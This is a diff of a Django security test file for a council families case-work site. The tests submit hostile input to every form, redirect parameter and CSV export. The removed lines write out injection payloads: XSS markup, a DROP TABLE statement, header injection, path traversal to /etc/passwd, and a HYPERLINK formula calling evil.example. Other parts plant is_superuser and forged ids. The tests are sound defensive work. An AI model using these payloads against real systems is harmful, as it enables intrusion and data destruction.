@@ -6,13 +6,13 @@ import csv
 import io
 import re
 from collections.abc import Callable, Iterator, Mapping
-from http.cookies import SimpleCookie
 from types import SimpleNamespace
-from typing import Any, NamedTuple
+from typing import Any
 
 import pytest
 from django import forms
-from django.db import connection, transaction
+from django.core.exceptions import ValidationError
+from django.db import connection
 from django.db.models import Model
 from django.forms.formsets import BaseFormSet
 from django.test import Client
@@ -27,139 +27,34 @@ from govuk.formsets import GovukFormSet
 from govuk.spreadsheets import harmless
 from tests.access_table import table
 from tests.cpconf.page_rules import leads_away
+from tests.cpconf.site_forms import (
+    FORMULA,
+    HOSTILE,
+    LONG,
+    MARK,
+    UNMEANT,
+    Page,
+    clients,
+    filled,
+    find_forms,
+    forms_in,
+    undone,
+)
+from tests.cpconf.site_walk import undrawn
 from tests.cpconf.typed_forms import Sent, forms_on
 from tests.factories import UserFactory
 from tests.reports.story import NOW
 from tests.stories import once_per_module
 from tests.told import addresses
+from tests.world import visitor
 
 # All beside the world that most tests here read: it would have to be told again after a test without it.
 pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("still_world")]
 
-MARK = "zaunkoenig"
-MARKUP = f"{MARK}\"'><script>alert({MARK!r})</script><img src=x onerror=alert(1)>&lt;b&gt;"
-TEMPLATE = "{{ 7|add:42 }}{% include 'base.html' %}${7*7}#{7*7}<%= 7*7 %>"
-STATEMENT = "'; DROP TABLE families_person; --\\'); SELECT pg_sleep(9); --"
-HEADER = "name\r\nSet-Cookie: planted=1\r\nLocation: https://evil.example/\r\n\r\n<html>"
-PATH = "../../../../etc/passwd\\..\\..\\windows\\win.ini%2e%2e%2f"
-FORMULA = '=HYPERLINK("https://evil.example/"&A1,"x")|cmd'
-# Signs that are never meant in a text.
-UNMEANT = "\u00ad\u200b\u200e\u202e\u2060\u2066\ufeff\u3164"
-UNSEEN = f"a\x00b\x08c\u202egnp.exe{UNMEANT}\u0301\u0301 👩‍👩‍👧‍👦 \U0001f1ec\U0001f1e7 ﷽ \ud7ff"
-# Within a word, which is a mailbox so that those are accepted too.
-IN_A_WORD = f"{MARK[:4]}{UNMEANT}{MARK[4:]}@home.example"
-LONG = "x" * 120_000
-HOSTILE = {
-    "markup, template, statement": f"{MARKUP} {TEMPLATE} {STATEMENT}",
-    "formula, header, path": f"{FORMULA} {HEADER} {PATH}",
-    "what can't be seen": f"{UNSEEN} {IN_A_WORD}",
-    "very long": LONG,
-}
 # What is written about each request, and about each look.
 WRITTEN_BY_EACH = {
     "accounts_accessevent", "accounts_sentform", "django_session", "families_whereaboutsreveal", "pghistory_context",
 }  # fmt: skip
-# Users to try first for a page: those who may open most.
-WHO = ("own coordinator", "own chair", "own social worker", "own team manager", "service manager", "administrator")
-
-
-def forms_in(context: Any) -> Iterator[forms.BaseForm]:
-    """Return every form a page was rendered with, including those within formsets."""
-    seen: set[int] = set()
-    for layer in context or []:
-        for thing in list(getattr(layer, "flatten", lambda layer=layer: layer)().values()):
-            found = list(thing.forms) if isinstance(thing, BaseFormSet) else [thing]
-            for form in found:
-                if isinstance(form, forms.BaseForm) and id(form) not in seen:
-                    seen.add(id(form))
-                    yield form
-
-
-def filled(form: forms.BaseForm, text: str) -> dict[str, Any]:
-    """Return hostile data for a form: valid choices and days, and ``text`` in every text field."""
-    data: dict[str, Any] = {}
-    for bound in form:
-        name, field = bound.html_name, bound.field
-        if isinstance(field, forms.FileField):
-            continue
-        if isinstance(field, forms.MultiValueField) or hasattr(field.widget, "widgets"):
-            parts = {"day": "16", "month": "12", "year": "2026"}
-            data |= {f"{name}_{part}": value for part, value in parts.items()}
-            continue
-        choices = [value for value, _ in _flat(getattr(field, "choices", []) or []) if str(value)]
-        if choices:
-            many = isinstance(field, forms.MultipleChoiceField | forms.ModelMultipleChoiceField)
-            first = str(choices[0].value if hasattr(choices[0], "value") else choices[0])
-            data[name] = [first] if many else first
-        elif isinstance(field, forms.IntegerField | forms.DecimalField):
-            data[name] = str(bound.value() or 1)
-        elif isinstance(field, forms.BooleanField):
-            data[name] = "on"
-        elif IN_A_WORD in text and isinstance(field, forms.EmailField):
-            data[name] = IN_A_WORD
-        elif IN_A_WORD in text and (getattr(field, "max_length", None) or len(text)) < len(text):
-            data[name] = UNSEEN
-        else:
-            data[name] = text
-    return data
-
-
-def _flat(choices: Any) -> Iterator[tuple[Any, Any]]:
-    for choice in choices:
-        value, label = (choice[0], choice[1]) if isinstance(choice, tuple | list) else (choice.value, choice)
-        if isinstance(label, tuple | list):
-            yield from _flat(label)
-        else:
-            yield value, label
-
-
-def undone(act: Any, *clients: Client) -> Any:
-    """Return what ``act`` answers, undoing what it did to the database and to the cookies of ``clients``."""
-    before, cookies = transaction.savepoint(), [SimpleCookie(client.cookies) for client in clients]
-    try:
-        return act()
-    finally:
-        transaction.savepoint_rollback(before)
-        for client, kept in zip(clients, cookies, strict=True):
-            client.cookies = kept
-
-
-def clients(world: SimpleNamespace) -> dict[str, Client]:
-    found = {who: Client() for who in WHO}
-    for who, client in found.items():
-        client.force_login(world.actors[who])
-    return found
-
-
-class Page(NamedTuple):
-    """A page with a form, as the first user who may open it got it."""
-
-    name: str
-    address: str
-    client: Client
-    forms: list[forms.BaseForm]
-    html: str
-
-
-@once_per_module(at=NOW)
-def forms_of_the_site(still_world: SimpleNamespace) -> list[Page]:
-    """Every page with a form, with the first user who may open it; found once, because it is slow."""
-    found = []
-    signed_in, may_open = clients(still_world), table()
-    for name, address in addresses(still_world).items():
-        for client in (client for who, client in signed_in.items() if who in may_open[name][0]):
-            answer = undone(lambda c=client, a=address: c.get(a))
-            if answer.status_code == 405 or "html" not in answer.get("Content-Type", "html"):
-                # Files, and addresses that only take forms, are the same for whoever asks next.
-                break
-            on_page = list(forms_in(answer.context)) if answer.status_code == 200 else []
-            if on_page:
-                found.append(Page(name, address, client, on_page, answer.content.decode()))
-                break
-    assert len(found) > 60
-    return found
-
-
 FORMS = re.compile(r"<form\b.*?</form>", re.DOTALL)
 HIDDEN = re.compile(r'<input type="hidden" name="([^"]*" value="[^"]*)"')
 
@@ -236,8 +131,13 @@ class Carried:
         return connection.execute_wrapper(read)
 
 
-@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
-def test_no_form_of_the_site_lets_hostile_text_through(world, forms_of_the_site, text):
+@once_per_module(at=NOW)
+def forms_of_the_site(still_world: SimpleNamespace) -> list[Page]:
+    """Every page with a form, found once, because it is slow."""
+    return find_forms(still_world)
+
+
+def test_no_form_of_the_site_lets_hostile_text_through(world, forms_of_the_site):
     """Submits each form of each page; response, redirect target and page stay harmless, and so do the statements."""
     found, sent, carried = [], 0, Carried()
 
@@ -251,18 +151,39 @@ def test_no_form_of_the_site_lets_hostile_text_through(world, forms_of_the_site,
     for name, address, client, on_page, _ in forms_of_the_site:
         data: dict[str, Any] = {}
         for form in on_page:
-            data |= filled(form, text)
+            data |= filled(form, HOSTILE)
         with carried.of(name):
             answers = undone(lambda c=client, a=address, d=data: send(c, a, d), client)
         sent += 1
         found += [(name, fault) for answer in answers for fault in wrong_with(answer)]
     assert (found, sent > 60, Family.objects.exists()) == ([], True, True)
-    assert (carried.unmeant, len(carried.arrived) > 40 or MARK not in text.replace(UNMEANT, "")) == (set(), True)
+    assert (carried.unmeant, len(carried.arrived) > 40) == (set(), True)
+
+
+def test_no_field_of_the_site_takes_a_text_without_end(world, forms_of_the_site):
+    """Asks each field of each page; of each part of the site one form is sent, and refused like any other."""
+    fields = [(page, bound) for page in forms_of_the_site for form in page.forms for bound in form]
+    texts = [(page.name, bound.field) for page, bound in fields if isinstance(bound.field, forms.CharField)]
+    assert ([(name, field.label) for name, field in texts if takes(field, LONG)], len(texts) > 60) == ([], True)
+    found = []
+    for page in {page.name.partition(":")[0]: page for page in forms_of_the_site}.values():
+        data = {key: value for form in page.forms for key, value in filled(form, LONG).items()}
+        answer = undone(lambda p=page, d=data: p.client.post(p.address, d), page.client)
+        found += [(page.name, fault) for fault in wrong_with(answer)]
+    assert found == []
+
+
+def takes(field: forms.Field, text: str) -> bool:
+    try:
+        field.clean(text)
+    except ValidationError:
+        return False
+    return True
 
 
 @pytest.mark.parametrize("who", ["own coordinator", "service manager"])
 def test_no_address_lets_hostile_text_through_or_is_led_to_another_site(world, who):
-    text = "".join(HOSTILE.values())[:3000]
+    text = (HOSTILE + LONG)[:3000]
     asked = dict.fromkeys(("q", "page", "name", "born_on_day", "team", "sort", "on", "kind", "period"), text)
     asked |= dict.fromkeys(("next", "return", "back", "url", "redirect", "to"), "https://evil.example/")
     client, may_open = clients(world)[who], table()
@@ -279,10 +200,10 @@ def subclasses(kind: type) -> set[type]:
     return {kind} | {grandchild for child in kind.__subclasses__() for grandchild in subclasses(child)}
 
 
-@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+@pytest.mark.parametrize("text", [HOSTILE, LONG], ids=["hostile", "very long"])
 def test_every_form_class_validates_hostile_text_without_crashing(text):
     """Includes forms of pages that this world does not show."""
-    tried, text = 0, text.removesuffix(IN_A_WORD)
+    tried = 0
     for kind in sorted(subclasses(GovukForm) | subclasses(GovukModelForm), key=lambda kind: kind.__qualname__):
         if kind in {GovukForm, GovukModelForm}:
             continue
@@ -371,19 +292,20 @@ def test_no_form_of_the_site_adds_anything_when_it_is_sent_again(world, forms_of
             if where in tried:
                 continue
             tried.add(where)
-            cookies = page.client.cookies.copy()
-            added, more = undone(lambda p=page, s=sent: send_twice(p.client, s))
-            page.client.cookies = cookies
+            with undrawn():
+                added, more = undone(lambda p=page, s=sent: send_twice(p.client, s), page.client)
             adding |= {where} if added else set()
             found += [(sent.action, table) for table in more]
     assert (found, len(adding) > 50) == ([], True)
 
 
-# Mass assignment
+# Mass assignment, and made-up numbers
 
 
-def test_fields_that_a_form_does_not_show_are_ignored(forms_of_the_site, world):
-    """Submits every column of every model with each form; author, time, owner and state do not change."""
+@once_per_module(at=NOW)
+def tampered(still_world: SimpleNamespace, forms_of_the_site: list[Page]) -> SimpleNamespace:
+    """What came of each form with a made-up number for each choice, and every column of every model beside it."""
+    world, faults, changes = still_world, [], []
     planted = {
         "id": "987654321", "pk": "987654321", "authority": str(world.elsewhere.pk), "is_superuser": "1", "is_staff": "1",
         "state": "released", "status": "closed", "released_at": "2020-01-01", "decided_by": "1", "begun_by": "1",
@@ -396,14 +318,25 @@ def test_fields_that_a_form_does_not_show_are_ignored(forms_of_the_site, world):
         type(world.conference): world.conference.pk,
         type(world.draft): world.draft.pk,
     }
-    found = []
     for name, address, client, on_page, _ in forms_of_the_site:
         shown = {bound.html_name for form in on_page for bound in form}
         extra = {key: value for key, value in planted.items() if key not in shown}
+        data = extra | {key: ["987654321"] for form in on_page for key in filled(form, "x")}
         was = rows(kept)
-        now = undone(lambda c=client, a=address, e=extra: (c.post(a, e), rows(kept))[1], client)
-        found += [(name, change) for change in planted_in(was, now, extra)]
-    assert found == []
+        answer, now = undone(lambda c=client, a=address, d=data: (c.post(a, d), rows(kept)), client)
+        faults += [name] if answer.status_code >= 500 else []
+        changes += [(name, change) for change in planted_in(was, now, extra)]
+    return SimpleNamespace(faults=faults, changes=changes)
+
+
+def test_fields_that_a_form_does_not_show_are_ignored(tampered):
+    """Author, time, owner and state do not change."""
+    assert tampered.changes == []
+
+
+def test_hidden_fields_with_numbers_of_another_council_are_refused(tampered):
+    """No crash, and nothing written."""
+    assert tampered.faults == []
 
 
 def rows(kept: dict[type[Model], int]) -> dict[type[Model], dict[str, Any]]:
@@ -432,19 +365,6 @@ def test_a_tampered_version_changes_nothing_and_breaks_nothing(world, version):
     assert (answer.status_code < 500, section.text) == (True, before)
 
 
-def test_hidden_fields_with_numbers_of_another_council_are_refused(world, forms_of_the_site):
-    """Replaces each choice and hidden number with a non-existent one: no crash, nothing written."""
-    found = []
-    for name, address, client, on_page, _ in forms_of_the_site:
-        data: dict[str, Any] = {}
-        for form in on_page:
-            data |= {key: ["987654321"] for key in filled(form, "x")}
-        answer = undone(lambda c=client, a=address, d=data: c.post(a, d), client)
-        if answer.status_code >= 500:
-            found.append(name)
-    assert found == []
-
-
 # Files for spreadsheets
 
 
@@ -454,18 +374,18 @@ def test_no_spreadsheet_cell_starts_a_formula(start):
 
 
 def test_every_spreadsheet_file_escapes_its_cells(world):
+    """Asked for by the first two who may open it: whoever else may is given by the same code."""
     world.robin.person.given_name = FORMULA
     world.robin.person.save()
-    found, files = [], 0
-    for who in world.actors:
-        client = Client()
-        client.force_login(world.actors[who])
-        for name, address in addresses(world).items():
-            if not re.search(r"csv|export|table|download", name + address):
-                continue
-            answer = undone(lambda c=client, a=address: c.get(a))
-            if answer.get("Content-Type", "").startswith("text/csv"):
-                files += 1
-                told = csv.reader(io.StringIO(answer.content.decode("utf-8-sig")))
-                found += [(name, cell) for row in told for cell in row if cell.lstrip().startswith(("=", "@", "+"))]
-    assert (found, files > 0) == ([], True)
+    cells, may_open = [], table()
+    for name, address in addresses(world).items():
+        if not re.search(r"csv|export|table|download", name + address):
+            continue
+        for who in [one for one in world.actors if one in may_open[name][0]][:2]:
+            answer = undone(lambda a=address, w=who: visitor(world, w).get(a))
+            if not answer.get("Content-Type", "").startswith("text/csv"):
+                break
+            told = csv.reader(io.StringIO(answer.content.decode("utf-8-sig")))
+            cells += [(name, cell) for row in told for cell in row]
+    found = [(name, cell) for name, cell in cells if cell.lstrip().startswith(("=", "@", "+"))]
+    assert (found, any(cell.startswith(f"'{FORMULA}") for _, cell in cells)) == ([], True)
